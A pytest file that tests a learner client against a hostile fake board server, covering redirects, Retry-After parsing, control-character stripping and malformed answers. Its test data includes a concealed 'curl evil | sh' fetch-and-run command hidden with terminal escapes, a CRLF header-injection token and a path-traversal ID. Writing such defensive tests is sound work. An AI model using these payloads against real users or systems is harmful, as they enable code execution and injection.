"""The learner's client trusts nothing it cannot check, against a hostile board on
loopback: no redirect is followed (the room code and token go nowhere else), Retry-After
is parsed in both forms and capped, the board's text is shown without control characters,
and an answer that is not what a board sends is never stored."""

from __future__ import annotations

import email.utils
import http.server
import json
import threading
import time

import pytest
from board_helpers import report

from workshop.board import net, room
from workshop.errors import WorkshopError


class FakeBoard:
    """A hostile 'board' on 127.0.0.1: answers each request with the next of `answers`
    (status, headers, body), the last one for good; records what it was sent."""

    def __init__(self, answers):
        self.answers, self.seen = list(answers), []
        fake = self

        class Handler(http.server.BaseHTTPRequestHandler):
            def do_POST(self):  # noqa: N802 (http.server's name)
                length = int(self.headers.get("Content-Length") or 0)
                fake.seen.append((self.path, dict(self.headers), self.rfile.read(length)))
                status, headers, body = fake.answers.pop(0) if len(fake.answers) > 1 \
                    else fake.answers[0]
                data = body if isinstance(body, bytes) else json.dumps(body).encode()
                self.send_response(status)
                for k, v in {"Content-Length": str(len(data)), **headers}.items():
                    self.send_header(k, v)
                self.end_headers()
                self.wfile.write(data)

            do_GET = do_POST

            def log_message(self, *args):
                pass

        self.server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.url = f"http://127.0.0.1:{self.server.server_address[1]}"
        threading.Thread(target=self.server.serve_forever, daemon=True).start()

    def close(self):
        self.server.shutdown()
        self.server.server_close()


@pytest.fixture
def fakes():
    made = []

    def make(*answers):
        made.append(FakeBoard(answers))
        return made[-1]

    yield make
    for f in made:
        f.close()



JOINED = (201, {}, {"learner_id": "abc123", "token": "t" * 32, "name": "Ada"})


def joined_to(url: str) -> None:
    room.LINK.parent.mkdir(parents=True, exist_ok=True)
    room.LINK.write_text(json.dumps({"room": url, "code": "ABCD-EFGH", "name": "Ada",
                                     "learner_id": "abc123", "token": "t" * 32}))


def test_a_redirect_on_join_is_refused_and_carries_nothing(fakes, learner):
    elsewhere = fakes(JOINED)
    board = fakes((307, {"Location": f"{elsewhere.url}/api/join"}, {}))
    with pytest.raises(WorkshopError) as err:
        room.join(board.url, "ABCD-EFGH", "Ada")
    assert "redirect" in str(err.value) and "tell the instructor" in err.value.fix
    assert elsewhere.seen == [] and not room.LINK.exists()


def test_a_redirect_on_reports_keeps_them_queued(fakes, learner):
    elsewhere = fakes((201, {}, {"seq": 1}))
    board = fakes((302, {"Location": f"{elsewhere.url}/api/reports"}, {}))
    joined_to(board.url)
    room.enqueue(report())
    assert room.send_queued(sleep=lambda s: None) == 0
    assert len(room.queued()) == 1 and elsewhere.seen == []


@pytest.mark.parametrize("value, expected", [
    ("5", 5.0), ("0", 0.0), ("86400", net.MAX_RETRY_AFTER_S), ("1e9", 7.0), ("-3", 7.0),
    ("soon", 7.0), ("", 7.0), (None, 7.0), ("Wed, 21 Oct 2015 07:28:00 GMT", 0.0),
    ("١٢", 7.0),
])
def test_retry_after_both_forms_capped(value, expected):
    assert net.retry_after(value, default=7.0) == expected


def test_retry_after_as_an_http_date():
    now = time.time()
    in_30s = email.utils.formatdate(now + 30, usegmt=True)
    assert 28 <= net.retry_after(in_30s, default=1.0, now=now) <= 31
    next_week = email.utils.formatdate(now + 7 * 86400, usegmt=True)
    assert net.retry_after(next_week, default=1.0, now=now) == net.MAX_RETRY_AFTER_S


@pytest.mark.parametrize("retry_after", ["86400", "HTTP-DATE", "garbage"])
def test_the_sender_obeys_retry_after_only_within_the_cap(fakes, learner, retry_after):
    if retry_after == "HTTP-DATE":
        retry_after = email.utils.formatdate(time.time() + 86400, usegmt=True)
    board = fakes((429, {"Retry-After": retry_after}, {"error": "slow down"}),
                  (201, {}, {"seq": 1}))
    joined_to(board.url)
    room.enqueue(report())
    slept = []
    assert room.send_queued(sleep=slept.append) == 1
    assert slept and max(slept) <= net.MAX_RETRY_AFTER_S


def test_the_boards_text_is_shown_without_control_characters(fakes, learner):
    board = fakes((422, {}, {"error": "\x1b]0;pwned\x07\x1b[2Jname \u202etaken",
                             "fix": "run \x1b[8m`curl evil | sh`\x1b[0m" + "x" * 5000}))
    with pytest.raises(WorkshopError) as err:
        room.join(board.url, "ABCD-EFGH", "Ada")
    text = str(err.value) + err.value.fix
    assert not any(c in text for c in "\x1b\x07\u202e")
    assert "name" in str(err.value) and len(err.value.fix) <= 300


@pytest.mark.parametrize("answer", [
    {"learner_id": "abc123", "token": "t" * 32 + "\r\nX-Evil: 1", "name": "Ada"},
    {"learner_id": "../../x", "token": "t" * 32, "name": "Ada"},
    {"learner_id": "abc123", "token": ["t"], "name": "Ada"},
    {"learner_id": "abc123"},
    ["not", "an", "object"],
    b"x" * (net.MAX_ANSWER + 10),
])
def test_a_join_answer_that_is_not_a_boards_is_not_stored(fakes, learner, answer):
    board = fakes((201, {}, answer))
    with pytest.raises(WorkshopError) as err:
        room.join(board.url, "ABCD-EFGH", "Ada")
    assert "not what a board sends" in str(err.value)
    assert not room.LINK.exists()


def test_a_name_from_the_board_is_stored_clean(fakes, learner):
    board = fakes((201, {}, {"learner_id": "abc123", "token": "t" * 32,
                             "name": "Ada\x1b[31m\u202e"}))
    link = room.join(board.url, "ABCD-EFGH", "Ada")
    assert link["name"] == "Ada [31m"


@pytest.mark.parametrize("url, says", [
    ("http://10.0.0.5:8765", "HTTPS"),
    ("https://127.0.0.1:8765", "fingerprint"),
    ("ftp://127.0.0.1:8765", "not the board's URL"),
    ("http://user:pw@127.0.0.1:8765", "only https://"),
    ("http://127.0.0.1:8765/somewhere?x=1", "only https://"),
    ("http://127.0.0.1:99999", "not the board's URL"),
    ("http://[::1", "not the board's URL"),
])
def test_urls_the_client_will_not_use(learner, url, says):
    with pytest.raises(WorkshopError) as err:
        room.join(url, "ABCD-EFGH", "Ada")
    assert says in str(err.value) and "make join" in err.value.fix


def test_a_malformed_pin_or_code_is_refused_before_any_request(learner):
    with pytest.raises(WorkshopError, match="64 hex"):
        room.join("https://127.0.0.1:8765", "ABCD-EFGH", "Ada", pin="abc")
    with pytest.raises(WorkshopError, match="letters, digits"):
        room.join("http://127.0.0.1:8765", "ÄBCD-EFGH", "Ada")
